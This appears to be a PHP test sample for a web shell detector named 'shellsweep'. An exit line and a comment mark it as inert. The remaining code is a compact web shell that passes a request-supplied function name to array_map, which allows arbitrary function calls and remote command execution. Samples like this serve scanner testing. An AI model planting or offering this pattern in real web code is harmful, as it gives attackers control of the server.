<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
$f = $_GET['f'];
array_map($f, (array) $_REQUEST[1]);
